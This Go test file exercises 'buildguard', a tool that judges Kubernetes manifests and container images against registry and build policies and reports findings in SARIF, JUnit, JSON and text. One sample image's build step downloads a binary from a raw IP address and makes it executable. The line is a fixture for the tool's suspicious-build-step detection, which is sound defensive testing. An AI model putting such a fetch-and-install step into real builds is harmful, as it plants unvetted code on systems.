package main

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"io/fs"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"buildguard.dev/buildguard/internal/testregistry"
)

// ciCheckout lays out what a CI job of a cluster configuration repository
// has checked out: buildguard's own manifests/ and the sample workloads of
// testdata/check, whose images name reg. It returns its directory.
func ciCheckout(t *testing.T, reg *testregistry.Registry) string {
	t.Helper()
	dir := t.TempDir()
	copyTree := func(from, to string, edit func([]byte) []byte) {
		err := filepath.WalkDir(from, func(p string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			rel, _ := filepath.Rel(from, p)
			dst := filepath.Join(to, rel)
			if d.IsDir() {
				return os.MkdirAll(dst, 0o755)
			}
			b, err := os.ReadFile(p)
			if err != nil {
				return err
			}
			return os.WriteFile(dst, edit(b), 0o644)
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	same := func(b []byte) []byte { return b }
	copyTree(filepath.Join("..", "..", "manifests"), filepath.Join(dir, "manifests"), same)
	copyTree(filepath.Join("testdata", "check"), filepath.Join(dir, "deploy"), func(b []byte) []byte {
		return bytes.ReplaceAll(b, []byte("REGISTRY.invalid"), []byte(reg.Host))
	})
	return dir
}

// pushSamples pushes the images the samples run: ok (old), fresh (built
// seconds ago), tool (a build step that fetches from a raw IP and runs
// it) and hotfix (fresh, admitted by an exception).
func pushSamples(t *testing.T, reg *testregistry.Registry) {
	reg.Push(t, "acme/ok:1", testregistry.Build(t, testregistry.Image{Created: time.Now().Add(-72 * time.Hour)}))
	reg.Push(t, "acme/fresh:1", testregistry.Build(t, testregistry.Image{Created: time.Now().Add(-5 * time.Second)}))
	reg.Push(t, "acme/hotfix:1", testregistry.Build(t, testregistry.Image{Created: time.Now().Add(-5 * time.Second)}))
	reg.Push(t, "acme/tool:2", testregistry.Build(t, testregistry.Image{Created: time.Now().Add(-72 * time.Hour),
		Steps: []string{"RUN /bin/sh -c wget -q http://203.0.113.9:8080/p -O /usr/bin/p && chmod +x /usr/bin/p # buildkit"}}))
}

// The SARIF fields the test reads.
type sarifOut struct {
	Version string `json:"version"`
	Runs    []struct {
		Tool struct {
			Driver struct {
				Name  string `json:"name"`
				Rules []struct {
					ID string `json:"id"`
				} `json:"rules"`
			} `json:"driver"`
		} `json:"tool"`
		Invocations []struct {
			ExecutionSuccessful bool `json:"executionSuccessful"`
			Notifications       []struct {
				Level   string                `json:"level"`
				Message struct{ Text string } `json:"message"`
			} `json:"toolExecutionNotifications"`
		} `json:"invocations"`
		Results []struct {
			RuleID    string                `json:"ruleId"`
			RuleIndex int                   `json:"ruleIndex"`
			Level     string                `json:"level"`
			Message   struct{ Text string } `json:"message"`
			Locations []struct {
				PhysicalLocation struct {
					ArtifactLocation struct{ URI string }                 `json:"artifactLocation"`
					Region           struct{ StartLine, StartColumn int } `json:"region"`
				} `json:"physicalLocation"`
			} `json:"locations"`
			PartialFingerprints map[string]string                      `json:"partialFingerprints"`
			Suppressions        []struct{ Kind, Justification string } `json:"suppressions"`
			Properties          struct{ Image string }                 `json:"properties"`
		} `json:"results"`
	} `json:"runs"`
}

// TestCheckManifestsCI judges the repository's manifests/ and a directory
// of sample workloads in one command, as a CI job would before kubectl
// apply, in each output format, and checks that every SARIF result points
// at the line and column of its container's image: in the files.
func TestCheckManifestsCI(t *testing.T) {
	reg := testregistry.New(t)
	pushSamples(t, reg)
	t.Chdir(ciCheckout(t, reg))
	runCheck := func(output string) (string, int) {
		t.Helper()
		var stdout, stderr bytes.Buffer
		code := run(context.Background(), []string{"check", "--config", "deploy/policies.yaml", "--namespace", "ci",
			"-f", "manifests", "-f", "deploy/samples", "-o", output}, &stdout, &stderr)
		if stderr.Len() > 0 {
			t.Logf("stderr: %s", stderr.String())
		}
		return stdout.String(), code
	}

	out, code := runCheck("sarif")
	if code != 1 {
		t.Fatalf("exit %d, want 1 (denied):\n%s", code, out)
	}
	var log sarifOut
	if err := json.Unmarshal([]byte(out), &log); err != nil {
		t.Fatalf("SARIF: %v\n%s", err, out)
	}
	if log.Version != "2.1.0" || len(log.Runs) != 1 || log.Runs[0].Tool.Driver.Name != "buildguard" {
		t.Fatalf("SARIF log version %q, %d runs", log.Version, len(log.Runs))
	}
	runOut := log.Runs[0]
	var got []string
	for _, r := range runOut.Results {
		if len(r.Locations) != 1 {
			t.Fatalf("result %s has %d locations", r.RuleID, len(r.Locations))
		}
		loc := r.Locations[0].PhysicalLocation
		path, err := url.PathUnescape(loc.ArtifactLocation.URI)
		if err != nil || filepath.IsAbs(path) {
			t.Fatalf("URI %q: want a path relative to the checkout (%v)", loc.ArtifactLocation.URI, err)
		}
		b, err := os.ReadFile(filepath.FromSlash(path))
		if err != nil {
			t.Fatalf("result %s at %s: %v", r.RuleID, path, err)
		}
		lines := strings.Split(string(b), "\n")
		if loc.Region.StartLine < 1 || loc.Region.StartLine > len(lines) {
			t.Fatalf("result %s at %s:%d, outside the file", r.RuleID, path, loc.Region.StartLine)
		}
		line := []rune(lines[loc.Region.StartLine-1])
		at := string(line[min(len(line), loc.Region.StartColumn-1):])
		if !strings.HasPrefix(at, "image:") && !strings.HasPrefix(at, `"image":`) || !strings.Contains(at, r.Properties.Image) || r.Properties.Image == "" {
			t.Errorf("result %s at %s:%d:%d points at %q, want the image: of %s", r.RuleID, path, loc.Region.StartLine, loc.Region.StartColumn, string(line), r.Properties.Image)
		}
		if rules := runOut.Tool.Driver.Rules; r.RuleIndex < 0 || r.RuleIndex >= len(rules) || rules[r.RuleIndex].ID != r.RuleID {
			t.Errorf("result %s has ruleIndex %d, which is another rule", r.RuleID, r.RuleIndex)
		}
		if r.PartialFingerprints["buildguardFinding/v1"] == "" {
			t.Errorf("result %s has no fingerprint", r.RuleID)
		}
		sup := ""
		if len(r.Suppressions) > 0 {
			sup = " suppressed: " + r.Suppressions[0].Justification
		}
		got = append(got, path+" "+r.RuleID+" "+r.Level+sup)
	}
	slices.Sort(got)
	want := []string{
		"deploy/samples/legacy.json unapproved-registry error",
		"deploy/samples/shop.yaml fresh-image error",
		"deploy/samples/shop.yaml fresh-image error suppressed: exception shop/hotfix: INC-42 (expires 2099-01-01T00:00:00Z)",
		"deploy/samples/shop.yaml suspicious-build-step error",
		"deploy/samples/staging/jobs.yaml fresh-image error",
		"deploy/samples/staging/jobs.yaml runtime-socket-mount warning",
		"manifests/base/deployment.yaml unapproved-registry error",
		"manifests/node-agent/daemonset.yaml runtime-socket-mount warning",
		"manifests/node-agent/daemonset.yaml unapproved-registry error",
	}
	if !slices.Equal(got, want) {
		t.Errorf("SARIF results:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	inv := runOut.Invocations
	if len(inv) != 1 || !inv[0].ExecutionSuccessful || len(inv[0].Notifications) != 2 {
		t.Errorf("invocations %+v, want one successful with 2 notes (the two patches)", inv)
	}

	// JUnit: a suite per file with workloads, a case per workload.
	out, code = runCheck("junit")
	if code != 1 {
		t.Fatalf("junit: exit %d", code)
	}
	var suites struct {
		Tests    int `xml:"tests,attr"`
		Failures int `xml:"failures,attr"`
		Errors   int `xml:"errors,attr"`
		Skipped  int `xml:"skipped,attr"`
		Suites   []struct {
			Name  string `xml:"name,attr"`
			Cases []struct {
				Name    string `xml:"name,attr"`
				Line    int    `xml:"line,attr"`
				Failure *struct {
					Message string `xml:"message,attr"`
					Text    string `xml:",chardata"`
				} `xml:"failure"`
			} `xml:"testcase"`
		} `xml:"testsuite"`
	}
	if err := xml.Unmarshal([]byte(out), &suites); err != nil {
		t.Fatalf("JUnit: %v\n%s", err, out)
	}
	// 12 workloads: 2 of manifests/ and a patch there, 9 samples (a patch
	// among them); 5 denied.
	if suites.Tests != 12 || suites.Failures != 5 || suites.Errors != 0 || suites.Skipped != 2 {
		t.Errorf("JUnit totals tests=%d failures=%d errors=%d skipped=%d, want 12, 5, 0, 2\n%s", suites.Tests, suites.Failures, suites.Errors, suites.Skipped, out)
	}
	found := false
	for _, s := range suites.Suites {
		for _, c := range s.Cases {
			if s.Name == "deploy/samples/shop.yaml" && c.Name == "Deployment shop/web" {
				found = c.Failure != nil && strings.Contains(c.Failure.Text, `buildguard denied Deployment "web" in namespace "shop": 1 of 3 images failed policy.`) &&
					strings.Contains(c.Failure.Text, "[fresh-image]") && c.Line == 9
			}
		}
	}
	if !found {
		t.Errorf("JUnit has no failing case for Deployment shop/web at line 9 with the denial message:\n%s", out)
	}

	// JSON: a line per workload.
	out, code = runCheck("json")
	if code != 1 {
		t.Fatalf("json: exit %d", code)
	}
	var words []string
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var r struct {
			File, Kind, Namespace, Name string
			Line                        int
			Verdict, Mode, Skipped      string
			Admitted                    bool
			Images                      []struct {
				Image        string
				Line, Column int
			}
		}
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatalf("JSON line %q: %v", l, err)
		}
		w := r.Namespace + "/" + r.Kind + "/" + r.Name + " " + r.Verdict
		if r.Skipped != "" {
			w += " skipped"
		} else if !r.Admitted {
			w += " denied"
		}
		words = append(words, w)
		for _, im := range r.Images {
			if im.Line == 0 {
				t.Errorf("%s: image %s has no line", w, im.Image)
			}
		}
	}
	wantWords := []string{
		"buildguard-system/Deployment/buildguard deny denied",
		"buildguard-node-agent/DaemonSet/buildguard-node-agent deny denied",
		"buildguard-system/Deployment/buildguard  skipped",
		"ci/ReplicationController/legacy deny denied",
		"shop/Pod/ok allow",
		"shop/Deployment/web  skipped",
		"shop/Deployment/web deny denied",
		"shop/CronJob/report deny denied",
		"shop/StatefulSet/hotfix allow",
		"staging/Job/smoke deny",
		"staging/DaemonSet/builder warn",
		"staging/ReplicaSet/api allow",
	}
	if len(words) != len(wantWords) {
		t.Fatalf("JSON workloads:\n%s\nwant:\n%s", strings.Join(words, "\n"), strings.Join(wantWords, "\n"))
	}
	for _, w := range wantWords {
		if !slices.Contains(words, w) {
			t.Errorf("JSON lacks %q; got:\n%s", w, strings.Join(words, "\n"))
		}
	}

	out, code = runCheck("text")
	for _, want := range []string{
		"deploy/samples/shop.yaml\n  line 9: Deployment shop/web: DENIED\n    buildguard denied Deployment \"web\" in namespace \"shop\": 1 of 3 images failed policy.",
		"line 30: container debug: " + reg.Host + "/acme/fresh:1 (sha256:",
		"Job staging/smoke: WOULD BE DENIED (admitted in audit mode)",
		"Warning: buildguard would deny (audit mode): smoke: [fresh-image]",
		"admitted by exception shop/hotfix (INC-42)",
		"not judged\n    container \"web\" has no image",
		"\n12 workloads in ",
		" files: 5 denied, 1 would be denied (audit or warn mode), 1 warned, 3 allowed, 2 not judged, 0 errors.\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("text output lacks %q:\n%s", want, out)
		}
	}
	if code != 1 {
		t.Errorf("text: exit %d, want 1", code)
	}
}

// TestCheckManifests covers the other ways in: kustomize output on
// standard input judged against a policy file, its modes and failures.
func TestCheckManifests(t *testing.T) {
	reg := testregistry.New(t)
	pushSamples(t, reg)
	down := testregistry.New(t)
	down.Server.Close()
	pol := writePolicy(t, "registries:\n  allow: [\"127.0.0.1:*/acme/*\"]\n  insecure: [\"127.0.0.1:*\"]\n")
	withException := writePolicy(t, "registries:\n  allow: [\"127.0.0.1:*/acme/*\"]\n  insecure: [\"127.0.0.1:*\"]\n"+
		"exceptions:\n  - {images: [\"127.0.0.1:*/acme/fresh\"], reason: CHG-7, expires: \"2099-01-01T00:00:00Z\"}\n")
	pod := func(ns, image string) string {
		return "---\napiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: " + ns + "}\nspec:\n  containers:\n  - name: c\n    image: " + image + "\n"
	}
	// A BuildPolicyException among manifests judged against a policy
	// file does nothing, as in a cluster whose policy is a file.
	exception := "---\napiVersion: buildguard.dev/v1alpha1\nkind: BuildPolicyException\nmetadata: {name: x, namespace: shop}\n" +
		"spec: {images: [\"127.0.0.1:*/acme/fresh\"], reason: r, expires: \"2099-01-01T00:00:00Z\"}\n"
	bad := writePolicy(t, "")
	os.WriteFile(bad, []byte("apiVersion: v1\nkind: Pod\nmetadata:\n  name: a: b\n"), 0o644)

	for _, tc := range []struct {
		name     string
		args     []string
		stdin    string
		wantCode int
		wantOut  string
		wantErr  string
	}{
		{"stdin allowed", []string{"--config", pol, "-f", "-"}, pod("shop", reg.Host+"/acme/ok:1"), 0, "(standard input)\n  line 2: Pod shop/p: allowed", ""},
		{"stdin denied", []string{"--config", pol, "-f", "-"}, pod("shop", reg.Host+"/acme/ok:1") + exception + pod("shop", reg.Host+"/acme/fresh:1"), 1,
			"line 15: Pod shop/p: DENIED", ""},
		{"policy file exceptions", []string{"--config", withException, "-f", "-"}, pod("shop", reg.Host+"/acme/fresh:1"), 0, "admitted by exception exceptions[0] (CHG-7)", ""},
		{"mode audit everywhere", []string{"--config", pol, "--mode", "audit", "-f", "-"}, pod("shop", reg.Host+"/acme/fresh:1"), 0, "WOULD BE DENIED (admitted in audit mode)", ""},
		{"namespace mode from the manifests", []string{"--config", pol, "-f", "-"},
			"apiVersion: v1\nkind: Namespace\nmetadata: {name: shop, labels: {buildguard.dev/mode: warn}}\n" + pod("shop", reg.Host+"/acme/fresh:1") + pod("other", reg.Host+"/acme/fresh:1"),
			1, "Pod shop/p: WOULD BE DENIED (admitted in warn mode)", ""},
		{"registry down", []string{"--config", pol, "-f", "-"}, pod("shop", down.Host+"/acme/ok:1"), 2, "[registry-unavailable]", ""},
		{"registry down, junit error", []string{"--config", pol, "-f", "-", "-o", "junit"}, pod("shop", down.Host+"/acme/ok:1"), 2, `<error message="a registry could not be asked in time`, ""},
		{"no workloads", []string{"--config", pol, "-f", "-"}, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n", 0, "0 workloads in 1 objects of 1 files", "no workloads"},
		{"broken manifest", []string{"--config", pol, "-f", bad}, "", 2, "", bad + ":4: yaml: mapping values are not allowed"},
		{"missing manifest", []string{"--config", pol, "-f", "/nonexistent/x.yaml"}, "", 2, "", "no such file"},
		{"images and manifests", []string{"--config", pol, "-f", "-", "r.example/x:1"}, "", 2, "", "judge images or manifests (-f), not both"},
		{"sarif without manifests", []string{"--config", pol, "-o", "sarif", "r.example/x:1"}, "", 2, "", "--output sarif is for manifests"},
		{"exceptions file with resources", []string{"--config", "testdata/check/policies.yaml", "--exceptions-file", pol, "-f", "-"}, pod("shop", reg.Host+"/acme/ok:1"), 2, "",
			"--exceptions-file goes with a policy file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			code, err := check(context.Background(), tc.args, strings.NewReader(tc.stdin), &stdout, &stderr)
			if err != nil {
				stderr.WriteString(err.Error())
			}
			if code != tc.wantCode || !strings.Contains(stdout.String(), tc.wantOut) || !strings.Contains(stderr.String(), tc.wantErr) {
				t.Errorf("check(%q) = %d\nstdout: %s\nstderr: %s\nwant %d, stdout containing %q, stderr containing %q",
					tc.args, code, stdout.String(), stderr.String(), tc.wantCode, tc.wantOut, tc.wantErr)
			}
		})
	}
}
